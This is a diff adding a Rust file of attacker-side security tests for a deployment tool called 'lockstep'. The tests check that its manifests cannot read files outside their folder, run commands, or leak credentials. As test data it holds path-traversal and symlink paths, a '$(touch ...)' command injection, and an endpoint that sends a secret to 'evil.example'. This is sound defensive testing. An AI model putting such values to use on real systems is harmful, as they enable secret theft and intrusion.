@@ -1,0 +1,234 @@
+//! What docs/threat-model.md says is closed and no other test shows: with the program itself, from the attacker's side.
+
+use std::net::TcpListener;
+use std::os::unix::fs::{PermissionsExt as _, symlink};
+
+use base64::Engine as _;
+use base64::engine::general_purpose::STANDARD;
+use serde_json::{Value as Json, json};
+
+use super::lab::{Folder, Proxy, QUICKSTART, Site, Twin, json_reply, lockstep};
+
+fn quickstart_with(from: &str, to: &str) -> String {
+    let text = std::fs::read_to_string(QUICKSTART).expect("the quickstart");
+    assert!(text.contains(from), "{from}");
+    text.replace(from, to)
+}
+
+/// A pull request wants the runner's files: by a path upwards, by an absolute one, by a link that is part of it.
+#[test]
+fn a_manifest_reads_nothing_outside_of_its_folder() {
+    let (folder, twin) = (Folder::new(), Twin::start());
+    let site = Site::new(&twin, 1);
+    std::fs::create_dir(folder.path("stack")).expect("folder");
+    let secret = "outside-of-the-folder-7c1e";
+    let outside = folder.write("outside.pem", secret);
+    symlink(&outside, folder.path("stack/link.pem")).expect("link");
+    symlink("..", folder.path("stack/up")).expect("link");
+    for path in ["../outside.pem", outside.as_str(), "link.pem", "up/outside.pem", "./../outside.pem"] {
+        for (from, to) in [
+            ("friendly_name: Acme", format!("friendly_name: \"${{file.{path}}}\"")),
+            (
+                "code: builtin:twilio-verify",
+                format!("code: \"{}{path}\"", if path.contains('/') { "" } else { "./" }),
+            ),
+        ] {
+            let manifest = folder.write("stack/lockstep.yaml", &quickstart_with(from, &to));
+            let run = site.lockstep("plan", &manifest, &["-vvv"]).run().expect(1);
+            assert!(!(run.out + &run.err).contains(secret), "{to}");
+        }
+    }
+    assert_eq!(twin.log().len(), 0, "refused before the first request");
+}
+
+/// Commands come from the command line, whatever a manifest says.
+#[test]
+fn a_manifest_runs_no_command() {
+    let folder = Folder::new();
+    let proof = folder.text_path("proof");
+    for name in [format!("touch {proof}"), format!("$(touch {proof})"), "vault".to_owned()] {
+        let manifest = quickstart_with("friendly_name: Acme", &format!("friendly_name: \"${{cmd.{name}}}\""));
+        let manifest = folder.write("lockstep.yaml", &manifest);
+        let run = lockstep(&["plan", &manifest, "--twin"]).env("PATH", "/usr/bin:/bin").run();
+        assert_eq!(run.code, Some(1), "{name}: {}", run.out);
+    }
+    assert!(!folder.path("proof").exists());
+}
+
+/// The same by the door that is open: `verify_service.friendly_name: ${env.…}` of a credential, and its like.
+#[test]
+fn a_manifest_sends_no_credential_to_where_others_read() {
+    let (folder, twin) = (Folder::new(), Twin::start());
+    let site = Site::new(&twin, 1);
+    let endpoint = "endpoint: https://acme-feedback.example/auth0-logs";
+    for (from, to) in [
+        ("friendly_name: Acme", "friendly_name: ${env.AUTH0_CLIENT_SECRET}"),
+        ("friendly_name: Acme", "friendly_name: ${twilio.api_secret}"),
+        (endpoint, "endpoint: https://evil.example/${env.TWILIO_API_SECRET}"),
+        ("${generated.feedback} ", "${auth0.client_secret} "),
+    ] {
+        let manifest = folder.write("lockstep.yaml", &quickstart_with(from, to));
+        let run = site.lockstep("apply", &manifest, &["--yes"]).run().expect(1);
+        assert!(run.err.contains("can be read by others"), "{to}: {}", run.err);
+    }
+    assert_eq!(twin.log().len(), 0, "refused before the first request");
+}
+
+/// A hijacked endpoint sends everybody elsewhere, with every redirect there is.
+#[test]
+fn credentials_follow_no_redirect() {
+    let twin = Twin::start();
+    let elsewhere = TcpListener::bind("127.0.0.1:0").expect("a port");
+    elsewhere.set_nonblocking(true).expect("not waiting");
+    let target = format!("http://{}", elsewhere.local_addr().expect("bound"));
+    for (number, status) in (1..).zip([301u16, 302, 303, 307, 308]) {
+        let location = format!("location: {target}/oauth/token\r\nrefresh: 0; url={target}\r\n");
+        let proxy = Proxy::start(&twin, move |_, _| json_reply(status, &location, &json!({})));
+        let run = Site::new(&twin, number).through(&proxy).run("plan", &[]).expect(1);
+        assert!(run.err.contains(&status.to_string()), "{}", run.err);
+        assert_eq!(proxy.seen().len(), 1, "{status}: asked once");
+    }
+    assert!(elsewhere.accept().is_err(), "somebody came");
+}
+
+/// On a machine with more users than one: ledger, plan, world, audit and log are for the owner only, also where a
+/// file of that name was there and open to all.
+#[test]
+fn what_is_written_is_for_its_owner_only() {
+    let (folder, twin) = (Folder::new(), Twin::start());
+    let site = Site::new(&twin, 1);
+    for name in ["plan", "ledger", "world"] {
+        // Replaced as a whole, so what it was open to before means nothing.
+        folder.write(name, "");
+        std::fs::set_permissions(folder.path(name), std::fs::Permissions::from_mode(0o666)).expect("mode");
+    }
+    std::fs::remove_file(folder.path("ledger")).expect("gone");
+    std::fs::remove_file(folder.path("world")).expect("gone");
+    let ledger = format!("file:{}", folder.text_path("ledger"));
+    site.run("plan", &["--out", &folder.text_path("plan")]).expect(0);
+    site.run("apply", &["--yes", "--ledger", &ledger, "--audit", &folder.text_path("audit")]).expect(0);
+    let world = format!("--twin={}", folder.text_path("world"));
+    lockstep(&["apply", QUICKSTART, "--yes", &world]).run().expect(0);
+    for name in ["plan", "ledger", "audit", "world"] {
+        let mode = std::fs::metadata(folder.path(name)).expect(name).permissions().mode() & 0o777;
+        assert_eq!(mode, 0o600, "{name} is {mode:o}");
+    }
+    let names = std::fs::read_dir(folder.path("")).expect("folder").count();
+    assert_eq!(names, 4, "no temporary file is left");
+}
+
+fn prints(site: &Site) -> (String, Vec<String>) {
+    fn walk(json: &Json, found: &mut Vec<String>) {
+        match json {
+            Json::String(text) if text.starts_with("slow:") || text.starts_with("fast:") => {
+                found.push(text.clone())
+            }
+            Json::Array(items) => items.iter().for_each(|item| walk(item, found)),
+            Json::Object(entries) => entries.values().for_each(|item| walk(item, found)),
+            _ => {}
+        }
+    }
+    let ledger = site.actions().into_iter().find(|action| action["name"] == "Lockstep ledger (acme-login)");
+    let code = ledger.expect("a ledger")["code"].as_str().expect("source").to_owned();
+    let encoded = code.split('\'').find_map(|part| part.strip_prefix("v1.")).expect("a payload");
+    let bytes = STANDARD.decode(encoded.split_once('.').expect("a checksum").1).expect("base64");
+    let json: Json = serde_json::from_slice(&bytes).expect("JSON");
+    let mut found = Vec::new();
+    walk(&json, &mut found);
+    (json["salt"].as_str().expect("a salt").to_owned(), found)
+}
+
+/// Whoever reads Actions reads the record: what is in it of a secret that a person chose costs a tenth of a second a
+/// guess, and a guess for one tenant is none for another.
+#[test]
+fn a_record_is_no_help_in_guessing() {
+    let twin = Twin::start();
+    let mut sites = [Site::new(&twin, 1), Site::new(&twin, 2)];
+    let mut seen = Vec::new();
+    for site in &mut sites {
+        site.env.insert("TWILIO_SENDER_SECRET".into(), "correct horse battery".into());
+        site.run("apply", &["--yes"]).expect(0);
+        seen.push(prints(site));
+    }
+    let [(salt, one), (other_salt, two)] = &seen[..] else { panic!("two") };
+    assert_ne!(salt, other_salt);
+    assert!(salt.len() == 32, "{salt}");
+    for list in [one, two] {
+        let slow: Vec<&String> = list.iter().filter(|print| print.starts_with("slow:")).collect();
+        assert!(!slow.is_empty(), "{list:?}");
+        let rounds = |print: &str| print.split(':').nth(1).and_then(|n| n.parse::<u32>().ok()).unwrap_or(0);
+        assert!(slow.iter().all(|print| rounds(print) >= 200_000), "{slow:?}");
+    }
+    assert!(one.iter().all(|print| !two.contains(print)), "equal secrets have unequal prints");
+}
+
+/// The credentials are of another account than the manifest's: before any other write, that is noticed.
+#[test]
+fn credentials_of_another_account_change_nothing() {
+    let twin = Twin::start();
+    let mut site = Site::new(&twin, 1);
+    site.env.insert("TWILIO_ACCOUNT_SID".into(), "AC0123456789abcdef0123456789abcdef".into());
+    let mark = twin.mark();
+    let run = site.run("apply", &["--yes", "--lease-ttl", "1s"]);
+    assert_eq!(run.code, Some(1), "{}", run.err);
+    let writes: Vec<String> = twin
+        .writes_since(mark)
+        .into_iter()
+        .filter(|line| !line.contains("serverless.twilio.com /v1/Services"))
+        .collect();
+    assert_eq!(writes, Vec::<String>::new());
+}
+
+/// Whoever has a standard key of the account reads the Function's variables: ours are not among them.
+#[test]
+fn the_function_gets_no_key_of_ours() {
+    let (folder, twin) = (Folder::new(), Twin::start());
+    let mut site = Site::new(&twin, 1);
+    for (name, value) in
+        [("TWILIO_FEEDBACK_KEY", "SK0f0f"), ("TWILIO_FEEDBACK_SECRET", "Feedback-Key-Secret-91c2")]
+    {
+        site.env.insert(name.into(), value.into());
+    }
+    let function = "feedback:\n  function:\n    code: builtin:verify-feedback\n    api_key: ${env.TWILIO_FEEDBACK_KEY}\n    api_secret: ${env.TWILIO_FEEDBACK_SECRET}\n";
+    let text = quickstart_with("feedback:\n", function)
+        .replace("    endpoint: https://acme-feedback.example/auth0-logs\n", "");
+    let manifest = folder.write("lockstep.yaml", &text);
+    site.lockstep("apply", &manifest, &["--yes"]).run().expect(0);
+    let env = site.env.clone();
+    let world: Json = serde_json::from_str(&twin.stop()).expect("JSON");
+    let account = &world["world"]["accounts"][&env["TWILIO_ACCOUNT_SID"]];
+    let services = account["serverless_services"].to_string();
+    assert!(services.contains("Feedback-Key-Secret-91c2"), "it has its own: {services}");
+    for name in ["TWILIO_API_SECRET", "TWILIO_SENDER_SECRET", "AUTH0_CLIENT_SECRET"] {
+        assert!(!services.contains(&env[name]), "{name} is in the Function");
+    }
+}
+
+/// What the registry says tomorrow is not what was looked at today.
+#[test]
+fn a_version_that_may_move_is_told() {
+    let folder = Folder::new();
+    for version in ["latest", "^6.2.0", "\">=6\"", "\"*\""] {
+        let manifest =
+            folder.write("lockstep.yaml", &quickstart_with("twilio: 6.2.0", &format!("twilio: {version}")));
+        let run = lockstep(&["plan", &manifest, "--twin"]).run();
+        assert!((run.out + &run.err).contains("not pinned"), "{version}");
+    }
+}
+
+/// What every user of the machine sees in the list of processes.
+#[test]
+fn no_secret_is_an_argument() {
+    fn walk(command: &clap::Command, found: &mut Vec<String>) {
+        let names = command.get_arguments().map(|argument| argument.get_id().as_str().to_lowercase());
+        found.extend(names);
+        command.get_subcommands().for_each(|inner| walk(inner, found));
+    }
+    let mut names = Vec::new();
+    walk(&lockstep::cli::command(), &mut names);
+    assert!(names.len() > 20, "{names:?}");
+    for name in names {
+        let carries = ["secret", "token", "password", "key"].iter().any(|word| name.contains(word));
+        assert!(!carries, "{name}");
+    }
+}
